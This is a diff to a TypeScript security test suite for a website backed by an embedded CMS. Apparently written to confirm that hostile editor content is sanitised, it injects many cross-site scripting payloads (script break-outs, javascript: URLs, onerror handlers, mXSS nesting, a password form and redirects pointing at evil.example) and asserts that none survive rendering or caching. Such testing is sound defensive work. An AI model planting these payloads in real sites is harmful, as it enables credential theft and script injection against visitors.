@@ -1,6 +1,7 @@
 import { solveChallenge, type Challenge } from 'altcha-lib'
 import { deriveKey } from 'altcha-lib/algorithms/web/sha'
-import { describe, expect, it } from 'vitest'
+import { parse } from 'parse5'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { baseUrl } from '../shared/base-url'
 import { cmsCredential, devVar } from '../shared/dev-vars'
 import { rawRequest, type RawAnswer, type RawOptions } from '../shared/raw-request'
@@ -508,6 +509,25 @@ describe('forms: rate limit and captcha', () => {
 
 // ── caches ───────────────────────────────────────────────────────────────────────────────────────
 
+/** Every attribute name of a page as a browser parses it (`<tag name>`), templates included. */
+function attributeNames(html: string): string[] {
+  const names: string[] = []
+  const walk = (node: ParsedNode) => {
+    for (const attr of node.attrs ?? []) names.push(`<${node.nodeName} ${attr.name}>`)
+    for (const child of node.childNodes ?? []) walk(child)
+    if (node.content) walk(node.content)
+  }
+  walk(parse(html) as ParsedNode)
+  return names
+}
+interface ParsedNode {
+  nodeName: string
+  attrs?: { name: string }[]
+  childNodes?: ParsedNode[]
+  content?: ParsedNode
+}
+const handlers = (html: string) => attributeNames(html).filter((a) => / on[a-z]+>$/.test(a))
+
 const canonicalOf = (html: string) => /<link rel="canonical" href="([^"]+)"/.exec(html)?.[1]
 
 describe('cache keys: one address per page', () => {
@@ -957,7 +977,7 @@ describe('pages: CSP, nonces, inline code', () => {
   it('has no inline event handler, javascript: URL or nonce-less inline script in any page', async () => {
     for (const path of PAGES) {
       const { body, headers } = await send(path)
-      expect(body, path).not.toMatch(/<[^>]+\son[a-z]+\s*=/i)
+      expect(handlers(body), path).toEqual([])
       expect(body, path).not.toMatch(/(href|src|action)\s*=\s*["']?\s*(javascript|data|vbscript):/i)
       const nonce = /'nonce-([^']+)'/.exec(String(headers['content-security-policy']))?.[1]
       for (const script of body.match(/<script\b[^>]*>/g) ?? []) {
@@ -1012,6 +1032,130 @@ describe('pages: CSP, nonces, inline code', () => {
     ]) {
       const res = await send(`${path}${encodeURIComponent(probe)}`)
       expect(res.body, path).not.toContain('<img src=x')
+    }
+  })
+})
+
+describe('CMS content, as a stolen editor account would save it', () => {
+  const slug = `battery-hostile-${Date.now()}`
+  const operator = (path: string, method: string, body?: unknown) =>
+    fetch(`${baseUrl()}/__embedded-cms/wp-json/embedded/v1/${path}`, {
+      method,
+      headers: { authorization: cmsCredential(), 'content-type': 'application/json' },
+      body: body === undefined ? undefined : JSON.stringify(body),
+    })
+  const BREAK_OUT = '</script><script>window.__pwned=1</script><!--'
+  const HTML = [
+    '<p id="main" class="site-header" style="position:fixed" onclick="x()">Styled</p>',
+    '<p><a href="javascript:alert(1)">a</a><a href="JaVaScRiPt&colon;alert(1)">b</a>',
+    '<a href="java\tscript:alert(1)">c</a><a href="data:text/html,<script>x</script>">d</a>',
+    '<a href="//evil.example/x">e</a><a href="/\\evil.example/x">f</a>',
+    '<a href="http://cms.internal/wp-admin/">g</a></p>',
+    '<img src="x" onerror="alert(1)" srcset="javascript:alert(1) 1x">',
+    '<form action="https://evil.example/"><input name="password"><button formaction="javascript:x()">Go</button></form>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x">',
+    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>s</text></a></svg>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
+    '<template><script>alert(1)</script></template><base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
+    '<script nonce="abc">window.__pwned=2</script><style>body{display:none}</style>',
+    '<details open ontoggle="alert(1)"><summary>s</summary></details>',
+    `<p>${BREAK_OUT}</p>`,
+  ].join('')
+
+  beforeAll(async () => {
+    const res = await operator('test-pages', 'PUT', {
+      id: 90300,
+      slug,
+      uri: `/${slug}/`,
+      title: `Hostile ${BREAK_OUT} "><img src=x onerror=alert(1)>`,
+      blocks: [
+        { name: 'core/html', html: HTML },
+        { name: 'core/paragraph', html: `<p>${HTML}</p>` },
+        {
+          name: 'core/cover',
+          attributes: { url: 'javascript:alert(1)', backgroundType: 'video' },
+          innerBlocks: [{ name: 'core/paragraph', html: '<p>Cover text</p>' }],
+        },
+        {
+          name: 'core/media-text',
+          attributes: { mediaUrl: '//evil.example/x.mp4', mediaType: 'video' },
+          innerBlocks: [{ name: 'core/paragraph', html: '<p>Media text</p>' }],
+        },
+        { name: 'core/embed', attributes: { url: 'javascript:alert(1)', caption: BREAK_OUT } },
+        {
+          name: 'core/details',
+          attributes: { summary: `<img src=x onerror=alert(1)>${BREAK_OUT}` },
+        },
+      ],
+    })
+    expect(res.status).toBe(200)
+    const settings = await operator('settings', 'POST', {
+      blogname: `Northwind ${BREAK_OUT}`,
+      blogdescription: `Tagline ${BREAK_OUT} "><svg onload=alert(1)>`,
+    })
+    expect(settings.status).toBe(200)
+  })
+  afterAll(async () => {
+    await operator('test-pages', 'DELETE')
+    await operator('reset', 'POST')
+  })
+
+  /** The page, once rendered and once from the page cache (the same bytes for every visitor). */
+  async function bothCopies(): Promise<RawAnswer[]> {
+    const fresh = await send(`/${slug}`)
+    expect(fresh.status).toBe(200)
+    await send(`/${slug}`)
+    return [fresh, await send(`/${slug}`)]
+  }
+
+  it('renders no script, handler, style, form, frame or refresh of the CMS', async () => {
+    for (const { body, headers } of await bothCopies()) {
+      expect(body).toContain('Cover text')
+      const nonce = /'nonce-([^']+)'/.exec(String(headers['content-security-policy']))?.[1]
+      for (const script of body.match(/<script\b[^>]*>/g) ?? []) {
+        const ours = /\ssrc="\/assets\/|type="application\/ld\+json"/.test(script)
+        if (!ours && nonce) expect(script).toContain(`nonce="${nonce}"`)
+        expect(script).not.toContain('nonce="abc"')
+      }
+      // The break-out text is shown as text (escaped), or as JSON-LD data, never as a script.
+      expect(body).not.toMatch(/<script\b(?![^>]*ld\+json)[^>]*>[^<]*__pwned/)
+      expect(body).not.toContain('<script>window')
+      expect(handlers(body)).toEqual([])
+      expect(body).not.toMatch(/<(iframe|object|embed|base|mglyph|mtext)\b/i)
+      expect(body).not.toMatch(/evil\.example\/"|name="password"|xlink:href/)
+      expect(body).not.toMatch(/http-equiv/i)
+      expect(body).not.toMatch(/style="position:fixed"|body\{display:none\}/)
+      expect(body).not.toMatch(/<p[^>]*(id="main"|site-header)/)
+    }
+  })
+
+  it('lets no refused URL reach an attribute, and no CMS host', async () => {
+    for (const { body } of await bothCopies()) {
+      for (const m of body.matchAll(/\s(?:href|src|srcset|action|formaction|poster)="([^"]*)"/g)) {
+        const url = (m[1] ?? '').replaceAll('&amp;', '&')
+        expect(url).not.toMatch(/^\s*(javascript|data|vbscript)\s*:/i)
+        expect(url).not.toMatch(/^\/[/\\]/)
+      }
+      expect(body).not.toContain('cms.internal')
+    }
+  })
+
+  it('keeps every JSON-LD script whole and every title escaped', async () => {
+    for (const path of [`/${slug}`, '/', '/about']) {
+      const { body } = await send(path)
+      const scripts = [
+        ...body.matchAll(/<script type="application\/ld\+json"[^>]*>([\s\S]*?)<\/script>/g),
+      ]
+      expect(scripts.length, path).toBeGreaterThan(0)
+      for (const m of scripts) {
+        const json = JSON.parse(m[1] ?? '') as unknown
+        expect(JSON.stringify(json)).toContain('Northwind')
+        expect(m[1], path).not.toMatch(/<\/|<!--/)
+      }
+      expect(body, path).not.toContain('<script>window')
+      expect(/<title>([^<]*)<\/title>/.exec(body)?.[1], path).not.toMatch(/[<>]/)
     }
   })
 })
